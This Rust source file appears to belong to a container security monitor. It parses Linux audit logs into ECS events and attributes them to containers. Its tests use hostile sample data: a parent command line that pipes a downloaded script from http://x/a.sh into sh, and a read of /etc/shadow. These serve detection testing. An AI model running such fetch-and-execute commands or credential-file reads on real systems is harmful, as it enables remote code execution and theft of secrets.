//! Kernel audit records → one ECS event per audit event, attributed to its container.
//!
//! The kernel emits an audit *event* as several records sharing `msg=audit(<time>:<serial>)`:
//! an execve is `SYSCALL` + `EXECVE` + `CWD` + `PATH`… + `PROCTITLE` + `EOE`. [`Aggregator`]
//! collects records by serial and emits the event on `EOE`, when a record of a newer serial
//! shows the event is over, or on [`Aggregator::flush`] (idle input).
//!
//! [`to_event`] maps it: `process.*` (pid, parent pid, executable, name, args, command line,
//! working directory), `user.id`, `user.effective.id`, `file.path` for watched files, and every
//! raw key under `auditd.<key>` (a scalar, or an array when several records carry the key;
//! `auditd.type` is the array of record types). Hex-encoded values (`a0=2F62696E`,
//! `proctitle=…`) are decoded. [`container_of_pid`] reads `/proc/<pid>/cgroup` to find the
//! container id, so the caller can add the container's metadata.

use std::collections::BTreeMap;
use std::path::Path;

use serde_json::{json, Map, Value};

/// One parsed audit record.
#[derive(Debug, Clone, PartialEq)]
pub struct AuditRecord {
    /// `SYSCALL`, `EXECVE`, ...
    pub kind: String,
    /// Seconds since the epoch, as written (`1700000000.123`).
    pub time: String,
    /// The event serial.
    pub serial: u64,
    /// Fields in order (hex decoded where the kernel encoded them).
    pub fields: Vec<(String, String)>,
}

/// Keys whose unquoted values the kernel hex-encodes when they contain unusual bytes.
/// `a0`, `a1`... are hex-encoded strings in `EXECVE` records only (in `SYSCALL` they are
/// register values).
fn maybe_hex(key: &str, execve: bool) -> bool {
    matches!(
        key,
        "exe" | "comm" | "cwd" | "name" | "proctitle" | "path" | "key" | "data" | "cmd"
    ) || (execve
        && key.len() > 1
        && key.starts_with('a')
        && key[1..].bytes().all(|b| b.is_ascii_digit()))
}

fn decode_hex(text: &str) -> Option<String> {
    if !text.len().is_multiple_of(2)
        || text.is_empty()
        || !text.bytes().all(|b| b.is_ascii_hexdigit())
    {
        return None;
    }
    let bytes: Option<Vec<u8>> = (0..text.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&text[i..i + 2], 16).ok())
        .collect();
    let bytes = bytes?;
    // proctitle separates arguments with NUL.
    let text = String::from_utf8_lossy(&bytes).replace('\0', " ");
    Some(text.trim_end().to_string())
}

/// Splits `k=v k2="quoted v" msg='inner k=v'` into pairs.
fn split_fields(text: &str, execve: bool, out: &mut Vec<(String, String)>) {
    let mut rest = text.trim();
    while !rest.is_empty() {
        let Some(eq) = rest.find('=') else { break };
        let key = rest[..eq].trim().to_string();
        let after = &rest[eq + 1..];
        let (value, quoted, next) = match after.chars().next() {
            Some(q @ ('"' | '\'')) => match after[1..].find(q) {
                Some(end) => (&after[1..1 + end], Some(q), &after[2 + end..]),
                None => (&after[1..], Some(q), ""),
            },
            _ => {
                let end = after.find(' ').unwrap_or(after.len());
                (&after[..end], None, &after[end..])
            }
        };
        if quoted == Some('\'') && key == "msg" {
            // User-space records carry their own fields inside msg='...'.
            split_fields(value, execve, out);
        } else {
            let value = match quoted {
                None if maybe_hex(&key, execve) => {
                    decode_hex(value).unwrap_or_else(|| value.to_string())
                }
                _ => value.to_string(),
            };
            if !key.is_empty() {
                out.push((key, value));
            }
        }
        rest = next.trim_start();
    }
}

/// Parses one line of `audit.log` (`type=X msg=audit(T:S): fields`, enriched or raw).
pub fn parse_line(line: &str) -> Option<AuditRecord> {
    // Enriched logs append `\x1dUID="root" ...`: keep both halves.
    let (raw, enriched) = line.split_once('\x1d').unwrap_or((line, ""));
    let raw = raw.trim();
    let kind = raw.strip_prefix("type=")?.split(' ').next()?.to_string();
    let start = raw.find("msg=audit(")? + "msg=audit(".len();
    let end = start + raw[start..].find(')')?;
    let (time, serial) = raw[start..end].split_once(':')?;
    let mut fields = Vec::new();
    let body = raw[end + 1..].trim_start_matches(':');
    split_fields(body, kind == "EXECVE", &mut fields);
    let mut extra = Vec::new();
    split_fields(enriched, false, &mut extra);
    fields.extend(extra);
    Some(AuditRecord {
        kind,
        time: time.to_string(),
        serial: serial.parse().ok()?,
        fields,
    })
}

/// Groups records into events.
#[derive(Debug, Default)]
pub struct Aggregator {
    open: BTreeMap<u64, Vec<AuditRecord>>,
}

impl Aggregator {
    /// Adds a record; returns the events it completed.
    pub fn push(&mut self, record: AuditRecord) -> Vec<Vec<AuditRecord>> {
        let serial = record.serial;
        let mut done = Vec::new();
        // A newer serial closes the older events (records of one event are written together).
        let older: Vec<u64> = self.open.range(..serial).map(|(s, _)| *s).collect();
        for s in older {
            if let Some(records) = self.open.remove(&s) {
                done.push(records);
            }
        }
        if record.kind == "EOE" {
            if let Some(records) = self.open.remove(&serial) {
                done.push(records);
            }
        } else {
            self.open.entry(serial).or_default().push(record);
        }
        done
    }

    /// Emits whatever is open.
    pub fn flush(&mut self) -> Vec<Vec<AuditRecord>> {
        std::mem::take(&mut self.open).into_values().collect()
    }

    /// Whether an event is waiting for more records.
    pub fn is_empty(&self) -> bool {
        self.open.is_empty()
    }
}

fn first<'a>(records: &'a [AuditRecord], kind: &str, key: &str) -> Option<&'a str> {
    records
        .iter()
        .filter(|r| r.kind == kind)
        .flat_map(|r| r.fields.iter())
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.as_str())
}

fn number(text: Option<&str>) -> Option<Value> {
    text.and_then(|t| t.parse::<i64>().ok()).map(Value::from)
}

/// Maps one audit event to an ECS event.
pub fn to_event(records: &[AuditRecord]) -> Map<String, Value> {
    let mut event = Map::new();
    let time = records.first().map_or("0", |r| r.time.as_str());
    let (secs, frac) = time.split_once('.').unwrap_or((time, "0"));
    let digits: String = frac.chars().chain(std::iter::repeat('0')).take(9).collect();
    let nanos = digits.parse::<u32>().unwrap_or(0);
    let stamp = secs
        .parse::<i64>()
        .ok()
        .and_then(|secs| chrono::DateTime::from_timestamp(secs, nanos));
    if let Some(ts) = stamp {
        event.insert(
            "@timestamp".into(),
            json!(ts.to_rfc3339_opts(chrono::SecondsFormat::Millis, true)),
        );
    }
    // Raw keys: scalar when one record has the key, array when several do.
    let mut raw: BTreeMap<String, Vec<Value>> = BTreeMap::new();
    for record in records {
        for (key, value) in &record.fields {
            raw.entry(key.replace('.', "_"))
                .or_default()
                .push(json!(value));
        }
    }
    let mut auditd: Map<String, Value> = raw
        .into_iter()
        .map(|(k, mut v)| {
            let value = if v.len() == 1 {
                v.remove(0)
            } else {
                Value::Array(v)
            };
            (k, value)
        })
        .collect();
    auditd.insert(
        "type".into(),
        json!(records.iter().map(|r| r.kind.as_str()).collect::<Vec<_>>()),
    );
    auditd.insert(
        "serial".into(),
        json!(records.first().map_or(0, |r| r.serial)),
    );
    let kinds: Vec<&str> = records.iter().map(|r| r.kind.as_str()).collect();
    let mut process = Map::new();
    if let Some(pid) = number(first(records, "SYSCALL", "pid")) {
        process.insert("pid".into(), pid);
    }
    if let Some(ppid) = number(first(records, "SYSCALL", "ppid")) {
        process.insert("parent".into(), json!({ "pid": ppid }));
    }
    if let Some(exe) = first(records, "SYSCALL", "exe") {
        process.insert("executable".into(), json!(exe));
    }
    if let Some(comm) = first(records, "SYSCALL", "comm") {
        process.insert("name".into(), json!(comm));
    }
    if let Some(cwd) = first(records, "CWD", "cwd") {
        process.insert("working_directory".into(), json!(cwd));
    }
    let is_exec = kinds.contains(&"EXECVE");
    if is_exec {
        let args: Vec<String> = records
            .iter()
            .filter(|r| r.kind == "EXECVE")
            .flat_map(|r| r.fields.iter())
            .filter(|(k, _)| k.starts_with('a') && k[1..].parse::<u32>().is_ok())
            .map(|(_, v)| v.clone())
            .collect();
        process.insert("command_line".into(), json!(args.join(" ")));
        process.insert("args".into(), json!(args));
        process.insert("args_count".into(), json!(args.len()));
    } else if let Some(title) = first(records, "PROCTITLE", "proctitle") {
        process.insert("command_line".into(), json!(title));
    }
    let mut user = Map::new();
    if let Some(uid) = first(records, "SYSCALL", "uid") {
        user.insert("id".into(), json!(uid));
    }
    if let Some(name) = first(records, "SYSCALL", "UID") {
        user.insert("name".into(), json!(name));
    }
    if let Some(euid) = first(records, "SYSCALL", "euid") {
        user.insert("effective".into(), json!({ "id": euid }));
    }
    let success = first(records, "SYSCALL", "success");
    let outcome = match success {
        Some("yes") => "success",
        Some("no") => "failure",
        _ => "unknown",
    };
    let key = first(records, "SYSCALL", "key").filter(|k| *k != "(null)");
    let path = records
        .iter()
        .filter(|r| r.kind == "PATH")
        .filter(|r| {
            !r.fields
                .iter()
                .any(|(k, v)| k == "nametype" && v == "PARENT")
        })
        .find_map(|r| r.fields.iter().find(|(k, _)| k == "name"))
        .map(|(_, v)| v.clone());
    let (category, kind, action) = if is_exec {
        ("process", "start", "executed".to_string())
    } else if path.is_some() && kinds.contains(&"SYSCALL") {
        let change = key.is_some_and(|k| k.contains("write") || k.contains("change"));
        let syscall = first(records, "SYSCALL", "SYSCALL")
            .or_else(|| first(records, "SYSCALL", "syscall"))
            .unwrap_or("syscall");
        (
            "file",
            if change { "change" } else { "access" },
            syscall.to_string(),
        )
    } else {
        (
            "host",
            "info",
            records
                .first()
                .map_or("audit", |r| r.kind.as_str())
                .to_ascii_lowercase(),
        )
    };
    if category == "file" {
        if let Some(path) = &path {
            let full = match (path.starts_with('/'), first(records, "CWD", "cwd")) {
                (false, Some(cwd)) => format!("{}/{}", cwd.trim_end_matches('/'), path),
                _ => path.clone(),
            };
            let mut file = json!({ "path": full });
            if let Some(mode) = first(records, "PATH", "mode") {
                file["mode"] = json!(mode);
            }
            event.insert("file".into(), file);
        }
    }
    let message = match category {
        "process" => format!(
            "executed {}",
            process
                .get("command_line")
                .and_then(Value::as_str)
                .unwrap_or("")
        ),
        "file" => format!("{action} {}", path.as_deref().unwrap_or("")),
        _ => format!("audit {}", kinds.join(" ")),
    };
    let mut ecs_event = json!({
        "kind": "event", "module": "auditd", "dataset": format!("auditd.{category}"),
        "category": [category], "type": [kind], "action": action, "outcome": outcome,
    });
    if let Some(key) = key {
        ecs_event["reason"] = json!(format!("audit rule {key}"));
        event.insert("tags".into(), json!([key]));
    }
    event.insert("event".into(), ecs_event);
    event.insert("message".into(), json!(message));
    if !process.is_empty() {
        event.insert("process".into(), Value::Object(process));
    }
    if !user.is_empty() {
        event.insert("user".into(), Value::Object(user));
    }
    event.insert("auditd".into(), Value::Object(auditd));
    event
}

/// The container id (64 hex digits) in a `/proc/<pid>/cgroup` text.
pub fn container_id_in_cgroup(text: &str) -> Option<String> {
    for line in text.lines() {
        let path = line.rsplit(':').next().unwrap_or("");
        for segment in path.split('/').rev() {
            let segment = segment.trim_end_matches(".scope");
            let candidate = segment.rsplit(['-', ':']).next().unwrap_or(segment);
            if candidate.len() == 64 && candidate.bytes().all(|b| b.is_ascii_hexdigit()) {
                return Some(candidate.to_string());
            }
        }
    }
    None
}

/// The container a process (or, once it exited, its parent) runs in.
pub fn container_of_pid(proc_root: &Path, pids: &[i64]) -> Option<String> {
    pids.iter().find_map(|pid| {
        let text = std::fs::read_to_string(proc_root.join(pid.to_string()).join("cgroup")).ok()?;
        container_id_in_cgroup(&text)
    })
}

/// Fills `process.parent.executable|name|command_line` from `/proc/<ppid>` while the parent
/// still runs (it usually does: the shell waits for the command it started). Audit records
/// name only the parent's pid, and rules about what spawned a process (Sigma's
/// `ParentImage`) need its executable. Nothing is set when the parent has gone.
pub fn add_parent(event: &mut Map<String, Value>, proc_root: &Path) {
    let Some(parent) = event
        .get_mut("process")
        .and_then(|p| p.get_mut("parent"))
        .and_then(Value::as_object_mut)
    else {
        return;
    };
    let Some(ppid) = parent.get("pid").and_then(Value::as_i64) else {
        return;
    };
    let dir = proc_root.join(ppid.to_string());
    if let Ok(exe) = std::fs::read_link(dir.join("exe")) {
        let exe = exe
            .to_string_lossy()
            .trim_end_matches(" (deleted)")
            .to_string();
        if let Some(name) = exe.rsplit('/').next().filter(|n| !n.is_empty()) {
            parent.insert("name".into(), json!(name));
        }
        parent.insert("executable".into(), json!(exe));
    }
    if let Ok(raw) = std::fs::read(dir.join("cmdline")) {
        let args: Vec<String> = raw
            .split(|&b| b == 0)
            .filter(|a| !a.is_empty())
            .take(64)
            .map(|a| String::from_utf8_lossy(a).into_owned())
            .collect();
        if !args.is_empty() {
            let line = args.join(" ");
            let cut = line
                .char_indices()
                .nth(4_096)
                .map_or(line.len(), |(i, _)| i);
            parent.insert("command_line".into(), json!(&line[..cut]));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_parent_executable_and_command_line_come_from_proc() {
        let root = tempfile::tempdir().expect("tempdir");
        let dir = root.path().join("100");
        std::fs::create_dir_all(&dir).expect("mkdir");
        std::os::unix::fs::symlink("/usr/bin/dash", dir.join("exe")).expect("symlink");
        std::fs::write(dir.join("cmdline"), b"sh\0-c\0curl -s http://x/a.sh | sh\0")
            .expect("write");
        let mut event = serde_json::from_value::<Map<String, Value>>(
            json!({"process": {"pid": 101, "parent": {"pid": 100}}}),
        )
        .expect("map");
        add_parent(&mut event, root.path());
        assert_eq!(event["process"]["parent"]["executable"], "/usr/bin/dash");
        assert_eq!(event["process"]["parent"]["name"], "dash");
        assert_eq!(
            event["process"]["parent"]["command_line"],
            "sh -c curl -s http://x/a.sh | sh"
        );
        // A parent that has exited leaves the event as it was.
        let mut gone = serde_json::from_value::<Map<String, Value>>(
            json!({"process": {"pid": 7, "parent": {"pid": 6}}}),
        )
        .expect("map");
        add_parent(&mut gone, root.path());
        assert_eq!(gone["process"]["parent"], json!({"pid": 6}));
    }

    const EXEC: &str = r#"type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 ppid=100 pid=101 auid=4294967295 uid=0 gid=0 euid=0 comm="sleep" exe="/bin/busybox" key="crowsnest-exec"
type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="sh" a1="-c" a2=6563686F206869
type=CWD msg=audit(1700000000.123:42): cwd="/"
type=PATH msg=audit(1700000000.123:42): item=0 name="/bin/sh" inode=5 nametype=NORMAL
type=PROCTITLE msg=audit(1700000000.123:42): proctitle=7368002D63006563686F206869
type=EOE msg=audit(1700000000.123:42): "#;

    #[test]
    fn exec_records_aggregate_into_one_process_event() {
        let mut agg = Aggregator::default();
        let mut events = Vec::new();
        for line in EXEC.lines() {
            events.extend(agg.push(parse_line(line).expect("record")));
        }
        assert_eq!(events.len(), 1);
        assert!(agg.is_empty());
        let event = Value::Object(to_event(&events[0]));
        assert_eq!(event["process"]["pid"], 101);
        assert_eq!(event["process"]["parent"]["pid"], 100);
        assert_eq!(event["process"]["args"], json!(["sh", "-c", "echo hi"]));
        assert_eq!(event["process"]["command_line"], "sh -c echo hi");
        assert_eq!(event["process"]["working_directory"], "/");
        assert_eq!(event["event"]["category"], json!(["process"]));
        assert_eq!(event["event"]["type"], json!(["start"]));
        assert_eq!(event["event"]["dataset"], "auditd.process");
        assert_eq!(
            event["auditd"]["type"],
            json!(["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"])
        );
        // `a0` is in SYSCALL and EXECVE: an array.
        assert_eq!(event["auditd"]["a0"], json!(["55d1", "sh"]));
        assert_eq!(event["auditd"]["proctitle"], "sh -c echo hi");
        assert_eq!(event["@timestamp"], "2023-11-14T22:13:20.123Z");
    }

    #[test]
    fn a_newer_serial_closes_an_event_without_eoe() {
        let mut agg = Aggregator::default();
        let login = r#"type=USER_LOGIN msg=audit(1700000001.000:50): pid=9 uid=0 msg='op=login acct="root" exe="/usr/sbin/sshd" res=failed'"#;
        assert!(agg.push(parse_line(login).expect("record")).is_empty());
        let next = "type=SYSCALL msg=audit(1700000002.000:51): pid=1 syscall=2 success=no";
        let done = agg.push(parse_line(next).expect("record"));
        assert_eq!(done.len(), 1);
        let event = Value::Object(to_event(&done[0]));
        assert_eq!(event["auditd"]["acct"], "root");
        assert_eq!(event["auditd"]["res"], "failed");
        assert_eq!(event["event"]["action"], "user_login");
        assert_eq!(agg.flush().len(), 1);
    }

    #[test]
    fn file_watch_path_is_made_absolute() {
        let text = r#"type=SYSCALL msg=audit(1700000003.5:60): syscall=257 success=yes pid=7 ppid=1 uid=0 euid=0 comm="cat" exe="/bin/cat" key="crowsnest-sensitive"
type=CWD msg=audit(1700000003.5:60): cwd="/etc"
type=PATH msg=audit(1700000003.5:60): item=0 name="shadow" nametype=NORMAL mode=0100640"#;
        let mut agg = Aggregator::default();
        for line in text.lines() {
            agg.push(parse_line(line).expect("record"));
        }
        let done = agg.flush();
        let event = Value::Object(to_event(&done[0]));
        assert_eq!(event["file"]["path"], "/etc/shadow");
        assert_eq!(event["event"]["category"], json!(["file"]));
        assert_eq!(event["tags"], json!(["crowsnest-sensitive"]));
    }

    #[test]
    fn cgroup_paths_of_docker_containerd_and_crio() {
        let id = "0123456789abcdef".repeat(4);
        for text in [
            format!("0::/system.slice/docker-{id}.scope"),
            format!("12:memory:/docker/{id}"),
            format!("0::/kubepods.slice/kubepods-pod1.slice/cri-containerd-{id}.scope"),
            format!("0::/kubepods/besteffort/pod1/crio-{id}.scope"),
        ] {
            assert_eq!(container_id_in_cgroup(&text), Some(id.clone()), "{text}");
        }
        assert_eq!(
            container_id_in_cgroup("0::/user.slice/session-1.scope"),
            None
        );
    }
}
